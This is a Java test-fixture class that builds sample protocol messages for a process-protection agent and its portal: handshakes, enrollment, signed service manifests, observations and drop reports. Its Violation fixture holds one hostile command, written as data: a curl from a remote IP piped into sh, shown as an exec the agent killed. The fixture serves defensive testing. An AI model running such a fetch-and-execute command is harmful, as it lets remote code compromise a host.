package io.capgate.model.protocol;

import io.capgate.model.manifest.ManifestFixtures;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Optional;

/**
 * Protocol messages for tests, shipped in the shared-model test-jar for agent and portal tests: one factory per
 * message type ({@link #aViolation()}, ...) with realistic values, and {@link #oneOfEachType()}. Records make
 * one-field variants cheap: {@code new Heartbeat(7, aHeartbeat().sentAtMillis())}.
 */
public final class ProtocolFixtures {

    /** 2026-01-01T00:00:00Z, the clock of every fixture. */
    public static final long NOW_MILLIS = 1_767_225_600_000L;
    public static final String AGENT_ID = "agent-5f0c2a9e";
    public static final String SERVICE_ID = "svc-fastapi-demo";
    public static final String OTHER_SERVICE_ID = "svc-billing";

    private ProtocolFixtures() {
    }

    /** An Ubuntu 24.04 host with bpftrace and two Pythons. */
    public static HostFacts aHost() {
        return new HostFacts("app-01.example.internal", "6.8.0-45-generic", Optional.of("0.21.2"),
                List.of("3.11.9", "3.12.3"));
    }

    /** A FastAPI handler calling {@code subprocess}, innermost first. */
    public static List<StackFrame> aStack() {
        return List.of(
                new StackFrame("/usr/lib/python3.11/subprocess.py", "_execute_child", 1885),
                new StackFrame("/usr/lib/python3.11/subprocess.py", "__init__", 1026),
                new StackFrame("/srv/app/app/main.py", "export_report", 42));
    }

    public static Hello aHello() {
        return new Hello(1, 1, 1, AGENT_ID, "0.1.0", aHost());
    }

    public static HelloAck aHelloAck() {
        return new HelloAck(1, 1, Heartbeat.DEFAULT_INTERVAL, NOW_MILLIS, 41);
    }

    public static Heartbeat aHeartbeat() {
        return new Heartbeat(42, NOW_MILLIS);
    }

    public static CloseNotice aCloseNotice() {
        return new CloseNotice(7, CloseReason.REVOKED, "agent revoked by an administrator");
    }

    /** Its CSR bytes are a stand-in, not real DER: the codec carries them opaquely. */
    public static EnrollRequest anEnrollRequest() {
        return new EnrollRequest(1, "cg-enroll-3Jq9xZ2mW8vT", Bytes.of(derLike(0x30, 420)), aHost());
    }

    public static EnrollAccepted anEnrollAccepted() {
        return new EnrollAccepted(1, AGENT_ID, List.of(Bytes.of(derLike(0x30, 610)), Bytes.of(derLike(0x31, 720))),
                List.of(new ManifestKey("portal-key-2026-01", Bytes.of(derLike(0x30, 44)))));
    }

    /**
     * {@code fastapi-demo} in KILL mode with {@link ManifestFixtures#A_MANIFEST_YAML} as its manifest. The signature
     * is a fixed 64-byte pattern, not a valid Ed25519 signature: the codec does not verify, the agent does.
     */
    public static ServiceAssignment aServiceAssignment() {
        return new ServiceAssignment(SERVICE_ID, "fastapi-demo",
                new ProcessMatcher.Executable("/usr/bin/python3.11", "uvicorn\\s+app\\.main:app"), ServiceMode.KILL,
                Optional.of(new SignedManifest("mv-000123",
                        Bytes.of(ManifestFixtures.A_MANIFEST_YAML.getBytes(StandardCharsets.UTF_8)),
                        Bytes.of(derLike(0x5A, Limits.ED25519_SIGNATURE_BYTES)), "portal-key-2026-01")));
    }

    /**
     * {@link #aServiceAssignment()}, a billing service found by its systemd unit in OBSERVE mode, and a new service
     * observed before it has any manifest.
     */
    public static Assignments anAssignments() {
        ServiceAssignment billing = new ServiceAssignment(OTHER_SERVICE_ID, "billing",
                new ProcessMatcher.SystemdUnit("billing.service"), ServiceMode.OBSERVE,
                Optional.of(new SignedManifest("mv-000124",
                        Bytes.of("apiVersion: capgate.io/v1\n".getBytes(StandardCharsets.UTF_8)),
                        Bytes.of(derLike(0x11, Limits.ED25519_SIGNATURE_BYTES)), "portal-key-2026-01")));
        ServiceAssignment fresh = new ServiceAssignment("svc-new", "newcomer",
                new ProcessMatcher.Executable("/usr/bin/python3.11", ""), ServiceMode.OBSERVE, Optional.empty());
        return new Assignments(11, 3, List.of(aServiceAssignment(), billing, fresh));
    }

    /** One protected process of fastapi-demo, billing not protected because it is not running. */
    public static AssignmentStatus anAssignmentStatus() {
        return new AssignmentStatus(12, 3, List.of(
                new ProtectionStatus(SERVICE_ID, 4711, ProtectionState.PROTECTED, StatusReason.NONE, ""),
                new ProtectionStatus(OTHER_SERVICE_ID, 0, ProtectionState.NOT_PROTECTED, StatusReason.NO_PROCESS,
                        "no process in billing.service")));
    }

    public static ObservationBatch anObservationBatch() {
        return new ObservationBatch(13, 100, List.of(
                new ObservationEntry(SERVICE_ID, "app.main", "execve", Optional.of("/usr/bin/git"), 3,
                        NOW_MILLIS - 60_000, NOW_MILLIS, aStack()),
                new ObservationEntry(SERVICE_ID, "uvicorn", "accept4", Optional.empty(), 1_204,
                        NOW_MILLIS - 60_000, NOW_MILLIS - 5, List.of())));
    }

    /** app.main ran {@code /bin/sh} although its manifest only allows git; the agent killed the process. */
    public static Violation aViolation() {
        return new Violation(14, 101, SERVICE_ID, 4711, 4713, NOW_MILLIS, "app.main", "execve", 59,
                ViolationAction.KILLED, aStack(), "exec /bin/sh -c 'curl http://203.0.113.9/x | sh'");
    }

    public static DropReport aDropReport() {
        return new DropReport(15, 102, NOW_MILLIS - 300_000, NOW_MILLIS, List.of(
                new ServiceDrops(SERVICE_ID, 250, 0, 17)));
    }

    public static Ack anAck() {
        return new Ack(8, 101, List.of(12L, 13L));
    }

    public static ErrorReply anError() {
        return new ErrorReply(99, ErrorCode.UNSUPPORTED_TYPE, "unknown message type 0x0999 (request 99)");
    }

    /** One message of every {@link MessageType}, in the enum's order. */
    public static List<AgentMessage> oneOfEachType() {
        return List.of(aHello(), aHelloAck(), aHeartbeat(), aCloseNotice(), anEnrollRequest(), anEnrollAccepted(),
                anAssignments(), anAssignmentStatus(), anObservationBatch(), aViolation(), aDropReport(), anAck(),
                anError());
    }

    /** {@code length} bytes starting with {@code tag}, deterministic, for opaque DER and signature stand-ins. */
    static byte[] derLike(int tag, int length) {
        byte[] bytes = new byte[length];
        for (int i = 0; i < length; i++) {
            bytes[i] = (byte) (i == 0 ? tag : (i * 31 + tag));
        }
        return bytes;
    }
}
